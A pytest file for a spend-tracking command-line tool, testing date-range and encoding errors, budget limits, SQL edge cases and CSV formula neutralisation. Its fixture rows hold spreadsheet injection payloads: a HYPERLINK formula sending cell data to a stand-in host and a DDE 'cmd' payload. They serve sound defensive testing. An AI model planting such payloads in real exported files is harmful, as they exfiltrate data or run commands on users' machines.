"""Issue 12, defects 3, 4 and 6 at the command line: one-line errors instead of exit 70 at the edges of
time, encoding and money; CSV cells that cannot run as spreadsheet formulas; `sql` edge cases."""

from __future__ import annotations

from pathlib import Path

import pytest

from .conftest import write

CONFIG = '[store]\npath = "s.duckdb"\n'
ROWS = """ts,provider,model,project_id,cost_usd
2026-10-03,openai,=HYPERLINK("http://x.example/?"&A1),proj,1.50
2026-10-03,openai,@SUM(A1:A9),proj,-2.25
2026-10-04,openai,+cmd|' /C calc'!A0,proj,0.75
2026-10-04,openai,-2+3,proj,1
2026-10-04,openai,gpt-4.1,-1.50,2
"""


@pytest.fixture
def store(tmp_path: Path, cli):  # type: ignore[no-untyped-def]
    write(tmp_path / "sw.toml", CONFIG)
    write(tmp_path / "rows.csv", ROWS)
    assert cli("--config", "sw.toml", "import", "rows.csv", "--format", "canonical").code == 0
    return cli


# ------------------------------------------------------------------------------- defect 3: time, UTF-8, money
@pytest.mark.parametrize("command", [["detect", "--no-send", "--at"], ["digest", "--at"], ["collect", "--since"],
                                     ["backtest", "--until", "2026-01-02", "--since"]])
@pytest.mark.parametrize("when", ["0001-01-01", "9999-12-31", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00+01:00",
                                  "1999-12-31"])
def test_instants_outside_the_range_are_a_usage_error(store, command: list[str], when: str) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", *command, when)
    assert r.code == 2, r
    assert r.err.splitlines()[-1].endswith(f'"{when}" is outside the supported time range (2000-01-01 to 2100-01-01)')
    assert "internal error" not in r.err


@pytest.mark.parametrize("month", ["0001-01", "9999-12", "0000-01", "1999-12", "2100-01"])
def test_report_month_outside_the_range(store, month: str) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "report", "chargeback", "--month", month)
    assert (r.code, r.err) == (1, f'spendwatch: --month: "{month}" is outside the supported time range '
                                  '(2000-01 to 2099-12)\n')


def test_the_range_ends_are_accepted(store) -> None:  # type: ignore[no-untyped-def]
    assert store("--config", "sw.toml", "report", "chargeback", "--month", "2099-12").code == 0
    assert store("--config", "sw.toml", "report", "chargeback", "--month", "2000-01").code == 0
    assert store("--config", "sw.toml", "detect", "--no-send", "--at", "2100-01-01").code == 0


def test_a_config_file_that_is_not_utf8(tmp_path: Path, cli) -> None:  # type: ignore[no-untyped-def]
    (tmp_path / "bad.toml").write_bytes(b'[store]\npath = "s.duckdb"\n# caf\xe9\n')
    r = cli("--config", "bad.toml", "check-config")
    assert (r.code, r.err) == (1, "spendwatch: bad.toml:3: not valid UTF-8 (byte 0xe9); TOML files are UTF-8\n")


def test_a_sql_query_that_is_not_utf8(store) -> None:  # type: ignore[no-untyped-def]
    query = b"select '\xff' as x".decode("utf-8", "surrogateescape")  # what Python makes of such argv bytes
    r = store("--config", "sw.toml", "sql", query)
    assert (r.code, r.err) == (1, "spendwatch: the query is not valid UTF-8 (undecodable byte at character 9)\n")


@pytest.mark.parametrize("amount", ["1e26", "100000000000000000000000000", "1000000000000000", "1e15"])
def test_budget_amounts_beyond_the_money_bound_fail_check_config(tmp_path: Path, cli, amount: str) -> None:  # type: ignore[no-untyped-def]
    write(tmp_path / "sw.toml", CONFIG + f'[[budgets]]\nname = "b"\nperiod = "month"\namount = "{amount}"\n')
    r = cli("--config", "sw.toml", "check-config")
    assert r.code == 1
    assert r.err.startswith("spendwatch: sw.toml:6: budgets[0].amount: out of range (|value| must be below 1e15) (")
    assert cli("--config", "sw.toml", "digest", "--at", "2026-10-05").code == 1


def test_the_largest_budget_works_end_to_end(store, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    write(tmp_path / "sw.toml", CONFIG + '[[budgets]]\nname = "b"\nperiod = "month"\namount = "999999999999999.99"\n')
    assert store("--config", "sw.toml", "check-config").code == 0
    r = store("--config", "sw.toml", "digest", "--at", "2026-10-05")
    assert r.code == 0 and "internal error" not in r.err, r


# ------------------------------------------------------------------------------ defect 4: formula injection
def test_chargeback_csv_neutralises_formulas_but_keeps_numbers(store) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "report", "chargeback", "--month", "2026-10", "--by", "model", "--format", "csv")
    assert r.code == 0, r
    assert r.out == (
        "month,model,cost_usd,input_tokens,output_tokens,requests,share\n"
        "2026-10,gpt-4.1,2.00,0,0,0,66.7%\n"
        "2026-10,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\",1.50,0,0,0,50.0%\n"
        "2026-10,'-2+3,1.00,0,0,0,33.3%\n"
        "2026-10,'+cmd|' /C calc'!A0,0.75,0,0,0,25.0%\n"
        "2026-10,'@SUM(A1:A9),-2.25,0,0,0,-75.0%\n")


def test_sql_csv_neutralises_formulas_but_keeps_numbers(store) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "sql", "select model, project_id, cost_usd, '-1.50' as t, chr(9) || 'x' as tab, "
              "chr(13) || 'y' as cr, '=1' as \"=h\" from spend order by cost_usd limit 1", "--format", "csv")
    assert r.code == 0, r
    assert r.out == "model,project_id,cost_usd,t,tab,cr,'=h\n'@SUM(A1:A9),proj,-2.25,-1.50,'\tx,'\ry,'=1\n"


def test_json_and_table_output_are_unchanged(store) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "sql", "select model from spend where cost_usd < 0", "--format", "json")
    assert r.out == '[\n  {\n    "model": "@SUM(A1:A9)"\n  }\n]\n'


# --------------------------------------------------------------------------------------- defect 6: sql text
def test_a_query_may_start_with_a_comment(store) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "sql", "-- how many rows\nselect count(*) as n from spend", "--format", "csv")
    assert (r.code, r.out) == (0, "n\n5\n")
    r = store("--config", "sw.toml", "sql", "--format", "csv", "--n\nselect 1 as one")
    assert (r.code, r.out) == (0, "one\n1\n")


def test_pivot_without_in_is_one_query(store) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "sql", "PIVOT spend ON project_id USING sum(cost_usd) GROUP BY provider",
              "--format", "csv")
    assert (r.code, r.out) == (0, "provider,-1.50,proj\nopenai,2.00,1.00\n")


@pytest.mark.parametrize("query", ["select 1; pivot spend on provider using sum(cost_usd)",
                                   "create table t as pivot spend on provider using sum(cost_usd)"])
def test_pivot_does_not_open_a_door_to_other_statements(store, query: str) -> None:  # type: ignore[no-untyped-def]
    r = store("--config", "sw.toml", "sql", query)
    assert r.code == 1 and r.err.startswith("spendwatch: refused: ")
